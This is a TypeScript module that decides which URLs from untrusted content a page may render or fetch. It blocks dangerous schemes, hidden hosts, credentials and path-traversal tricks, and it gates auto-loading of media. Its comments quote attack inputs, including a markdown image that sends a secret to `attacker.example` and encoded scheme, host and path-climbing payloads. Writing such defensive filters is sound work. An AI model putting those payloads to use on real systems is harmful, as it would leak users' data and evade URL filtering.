import { hasInvisibleCharacters } from './invisible.js';
import { isSafeInlineType, normalizeMediaType } from './media-type.js';
import { isPrivateHost } from './private-host.js';

export { isPrivateHost };

/*
 * One policy for every URL that content can put on the page: links, images, audio and video
 * sources, document previews, citations and downloads. It decides on the parsed URL, never on
 * a substring match, and it separates two questions:
 *
 *   - may this URL be used at all?            (scheme, userinfo, obfuscation, data: types)
 *   - may the page fetch it before the user acts? (same origin or the app's allow-list only —
 *     the defence against `![](https://attacker.example/?q=<secret>)` exfiltration)
 *
 * A document preview is a frame that runs what the server sends, so for `document` only the
 * allow-list counts: a same-origin URL chosen by content (`/settings`, `/uploads/x.html`) is
 * never framed, and neither is another host, click or no click.
 */

/** Where a URL is about to be used. */
export type UrlUse = 'link' | 'image' | 'audio' | 'video' | 'document' | 'download';

/** Options of the URL policy: the media allow-list and the page's origin. */
export interface UrlPolicyOptions {
  /** The page's origin (`window.location.origin`); same-origin media loads without a click. */
  origin?: string | null;
  /** URL prefixes whose media may load without a click, e.g. `https://cdn.example.com/images/`. */
  mediaAllowlist?: readonly string[];
  /** Largest `data:` URL accepted, in characters. @default 10 MB */
  maxDataUrlLength?: number;
}

/** What the URL policy decided for one URL: load it, ask first (click to load), or refuse it, with why. */
export type UrlDecision =
  | {
      allowed: true;
      /** The URL to put in the attribute. */
      href: string;
      /** The host to name to the user (`null` for relative and `data:` URLs). */
      host: string | null;
      /** True when the page may fetch it now; false means "click to load". */
      autoLoad: boolean;
    }
  | {
      allowed: false;
      /** Why it was rejected, for a tooltip or a test. */
      reason: string;
    };

const DEFAULT_MAX_DATA_URL = 10 * 1024 * 1024;
const LINK_SCHEMES = new Set(['http:', 'https:', 'mailto:']);
const FETCH_SCHEMES = new Set(['http:', 'https:']);
// C0 and C1 controls, and the invisible characters browsers strip or ignore inside URLs.
/* eslint-disable no-control-regex -- finding control characters is the point */
const CONTROL_OR_INVISIBLE =
  /[\u0000-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;
/* eslint-enable no-control-regex */
const SCHEME = /^([a-z][a-z0-9+.-]*):/i;
const AUTHORITY = /^[a-z][a-z0-9+.-]*:\/*([^/?#]*)/i;

interface ParsedUrl {
  href: string;
  protocol: string;
  username: string;
  password: string;
  hostname: string;
  host: string;
  origin: string;
  pathname: string;
}
const UrlClass = (globalThis as { URL?: new (input: string, base?: string) => ParsedUrl }).URL;

function parse(input: string, base?: string): ParsedUrl | null {
  if (!UrlClass) return null;
  try {
    return new UrlClass(input, base);
  } catch {
    return null;
  }
}

function reject(reason: string): UrlDecision {
  return { allowed: false, reason };
}

/** Decides whether `raw`, written by untrusted content, may be used as `use`. */
export function checkUrl(raw: string, use: UrlUse, options: UrlPolicyOptions = {}): UrlDecision {
  if (typeof raw !== 'string') return reject('not a string');
  const url = raw.trim();
  if (url === '') return reject('empty');
  if (CONTROL_OR_INVISIBLE.test(url) || hasInvisibleCharacters(url))
    return reject('contains control or invisible characters');
  if (url.includes('\\')) return reject('contains a backslash');
  if (hidesScheme(url)) return reject('character references hide a scheme');

  const scheme = SCHEME.exec(url)?.[1]?.toLowerCase();
  if (scheme === undefined) return checkRelative(url, use, options);
  if (scheme === 'data') return checkDataUrl(url, use, options);
  if (!LINK_SCHEMES.has(`${scheme}:`)) return reject(`the ${scheme}: scheme is not allowed`);
  if (scheme === 'mailto') {
    return use === 'link'
      ? { allowed: true, href: url, host: null, autoLoad: false }
      : reject('mailto: is only for links');
  }

  if (hidesHost(AUTHORITY.exec(url)?.[1] ?? '')) return reject('percent-encoding hides the host');
  const parsed = parse(url);
  if (!parsed || !FETCH_SCHEMES.has(parsed.protocol)) return reject('not a valid URL');
  if (parsed.username !== '' || parsed.password !== '')
    return reject('contains credentials (userinfo)');
  return {
    allowed: true,
    href: parsed.href,
    host: parsed.host,
    autoLoad: use !== 'link' && use !== 'download' && mayFetchEarly(parsed, use, options),
  };
}

/**
 * Re-checks a decision made by app code (the `urlPolicy` hook) against the rules nothing may
 * waive: the URL it returns must pass the built-in policy for `use` (schemes, `data:` types,
 * userinfo, invisible characters, hidden schemes), with `tel:` as the one extra link scheme; and
 * nothing loads without a click from a private host unless it is this page's own origin. The
 * host shown is the returned URL's own.
 */
export function enforceUrlFloor(
  decision: UrlDecision,
  use: UrlUse,
  options: UrlPolicyOptions = {},
): UrlDecision {
  if (typeof decision !== 'object' || decision === null || decision.allowed !== true) {
    const reason = (decision as { reason?: unknown } | null)?.reason;
    return reject(typeof reason === 'string' ? reason : 'refused by the app');
  }
  const href: unknown = decision.href;
  if (typeof href !== 'string') return reject('the app gave no URL');
  if (use === 'link' && TELEPHONE.test(href.trim()))
    return { allowed: true, href: href.trim(), host: null, autoLoad: false };
  const floor = checkUrl(href, use, { ...options, mediaAllowlist: [] });
  if (!floor.allowed) return floor;
  return {
    allowed: true,
    href: floor.href,
    host: floor.host ?? decision.host,
    autoLoad:
      decision.autoLoad === true && (floor.autoLoad || mayLoadOnAppSay(floor.href, use, options)),
  };
}

const TELEPHONE = /^tel:\+?[0-9][0-9 ().-]{0,31}$/i;

/** What the app may load early beyond the built-in rule: any public host, never a private one. */
function mayLoadOnAppSay(href: string, use: UrlUse, options: UrlPolicyOptions): boolean {
  if (use === 'link' || use === 'download') return false;
  const parsed = parse(href, options.origin ?? undefined);
  if (!parsed) return false;
  if (parsed.protocol === 'data:') return true;
  if (options.origin && parsed.origin === options.origin) return true;
  return FETCH_SCHEMES.has(parsed.protocol) && !isPrivateHost(parsed.hostname);
}

function checkRelative(url: string, use: UrlUse, options: UrlPolicyOptions): UrlDecision {
  // A colon before any '/', '?' or '#' is a scheme the browser may read differently from us.
  const firstDelimiter = url.search(/[/?#]/);
  const colon = url.indexOf(':');
  if (colon !== -1 && (firstDelimiter === -1 || colon < firstDelimiter))
    return reject('unrecognised scheme');
  // Protocol-relative URLs point at another host.
  if (url.startsWith('//')) return checkUrl(`https:${url}`, use, options);
  if (use === 'document') {
    // Same-origin, but a preview still needs the allow-list: resolve it as the frame would.
    const resolved = options.origin ? parse(url, options.origin) : null;
    const autoLoad = resolved !== null && mayFetchEarly(resolved, use, options);
    return { allowed: true, href: url, host: null, autoLoad };
  }
  return { allowed: true, href: url, host: null, autoLoad: loadsEarly(use) };
}

/**
 * Markdown percent-encodes a non-ASCII host (`münchen.de`), which the URL parser decodes and
 * turns into punycode: that is fine. Encoded ASCII (`evil%2eexample`) or an encoded invisible
 * character (`bank.example%E2%80%8B.evil.test` is `bank.example.evil.test`) is not.
 */
function hidesHost(authority: string): boolean {
  if (!authority.includes('%')) return false;
  if (/%[0-7][0-9a-f]/i.test(authority)) return true;
  let decoded: string;
  try {
    decoded = decodeURIComponent(authority);
  } catch {
    return true;
  }
  return CONTROL_OR_INVISIBLE.test(decoded) || hasInvisibleCharacters(decoded);
}

/** Uses that fetch by themselves when same-origin; links and downloads wait for a click. */
function loadsEarly(use: UrlUse): boolean {
  return use === 'image' || use === 'audio' || use === 'video';
}

/*
 * `&#106;avascript:` is a harmless relative URL to the browser when it is used as the attribute
 * value, but not to anything that decodes HTML on the way (a template, a copy into markup). A URL
 * whose character references, once decoded, spell a scheme it did not have is refused.
 */
// An HTML decoder reads every digit of a numeric reference, leading zeros included
// (`&#x000003a;` is `:`); an out-of-range value decodes to U+FFFD.
const REFERENCE = /&(?:#(\d+);?|#x([0-9a-f]+);?|(colon|tab|newline|nbsp);)/gi;
const NAMED: Record<string, string> = { colon: ':', tab: '\t', newline: '\n', nbsp: '\u00a0' };

function hidesScheme(url: string): boolean {
  if (!url.includes('&')) return false;
  const decoded = url.replace(REFERENCE, (match, decimal?: string, hex?: string, name?: string) => {
    if (name !== undefined) return NAMED[name.toLowerCase()] ?? match;
    const code = decimal !== undefined ? Number(decimal) : parseInt(hex ?? '', 16);
    return code > 0x10ffff ? '\ufffd' : String.fromCodePoint(code);
  });
  if (decoded === url) return false;
  // eslint-disable-next-line no-control-regex -- browsers drop these before reading a scheme
  const bare = decoded.replace(/[\u0000-\u0020\u007f-\u00a0]/g, '');
  const scheme = SCHEME.exec(bare)?.[1]?.toLowerCase();
  return scheme !== undefined && scheme !== SCHEME.exec(url)?.[1]?.toLowerCase();
}

function checkDataUrl(url: string, use: UrlUse, options: UrlPolicyOptions): UrlDecision {
  if (use !== 'image' && use !== 'audio' && use !== 'video')
    return reject(`data: URLs are not allowed as a ${use}`);
  if (url.length > (options.maxDataUrlLength ?? DEFAULT_MAX_DATA_URL))
    return reject('data: URL too large');
  const header = /^data:([^,;]*)(;[^,]*)?,/i.exec(url);
  if (!header) return reject('malformed data: URL');
  const mediaType = normalizeMediaType(header[1] ?? '');
  if (!isSafeInlineType(mediaType, use))
    return reject(`data: URLs of type ${mediaType || 'unknown'} are not allowed`);
  return { allowed: true, href: url, host: null, autoLoad: true };
}

/** Same origin (not for documents), or under an allow-listed prefix; never another private host. */
function mayFetchEarly(url: ParsedUrl, use: UrlUse, options: UrlPolicyOptions): boolean {
  const sameOrigin = Boolean(options.origin) && url.origin === options.origin;
  if (sameOrigin && loadsEarly(use)) return true;
  if (mayClimbOutOfPath(url.pathname)) return false;
  // The page's own host may be `localhost` in development; any other private host never loads.
  if (!sameOrigin && isPrivateHost(url.hostname)) return false;
  return (options.mediaAllowlist ?? []).some((prefix) => matchesPrefix(url, prefix));
}

/**
 * Encoded dot segments, slashes and backslashes (also double-encoded, `%252e`), `;` path
 * parameters (`/images/..;/secret` on Tomcat), IIS's `%u002e`, overlong UTF-8 (`%c0%ae` is `.`
 * to a lenient decoder) and look-alikes that a server may fold to `.`, `/` or `\` (fullwidth
 * `%ef%bc%8e`) could climb out of an allow-listed path once the server decodes them.
 */
function mayClimbOutOfPath(pathname: string): boolean {
  if (/%2e|%2f|%5c|%25|;|%u|%(?![0-9a-f]{2})/i.test(pathname)) return true;
  if (!pathname.includes('%')) return false;
  let decoded: string;
  try {
    decoded = decodeURIComponent(pathname);
  } catch {
    // Not UTF-8: overlong forms and stray bytes mean whatever the server's decoder says.
    return true;
  }
  // NFKC folds fullwidth and small forms; Windows "best fit" also folds these slashes and dots.
  const separators = (text: string) =>
    text.replace(/[\u2215\u2044\u29f8\u2216\u29f9\u3002\uff61]/g, '/').replace(/[^./\\]/g, '')
      .length;
  return separators(decoded.normalize('NFKC')) !== separators(pathname);
}

/** Origin equality plus a path prefix that ends at a segment boundary (`/images` ≠ `/images-x`). */
function matchesPrefix(url: ParsedUrl, prefix: string): boolean {
  const allowed = parse(prefix);
  if (
    !allowed ||
    !FETCH_SCHEMES.has(allowed.protocol) ||
    allowed.username !== '' ||
    allowed.password !== '' ||
    allowed.origin !== url.origin
  )
    return false;
  const path = allowed.pathname;
  if (path.endsWith('/')) return url.pathname.startsWith(path);
  return url.pathname === path || url.pathname.startsWith(`${path}/`);
}

/**
 * A `data:` URL for base64 bytes, only for media types that are safe inline in `use`'s element
 * and within the size cap (checked on the base64 length, before anything is decoded).
 */
export function toDataUrl(
  data: string,
  mediaType: string,
  use: 'image' | 'audio' | 'video',
  options: UrlPolicyOptions = {},
): string | null {
  const essence = normalizeMediaType(mediaType);
  if (!isSafeInlineType(essence, use)) return null;
  if (data.length > (options.maxDataUrlLength ?? DEFAULT_MAX_DATA_URL)) return null;
  if (!/^[A-Za-z0-9+/=\s]*$/.test(data)) return null;
  return `data:${essence};base64,${data.replace(/\s+/g, '')}`;
}
